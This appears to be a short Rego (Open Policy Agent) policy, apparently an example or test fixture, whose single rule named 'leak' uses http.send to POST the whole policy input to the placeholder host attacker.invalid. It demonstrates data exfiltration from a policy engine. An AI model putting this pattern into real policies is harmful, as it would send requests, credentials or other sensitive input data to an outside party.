package oubli.exfil

leak := http.send({"method": "POST", "url": "https://attacker.invalid/", "body": input})
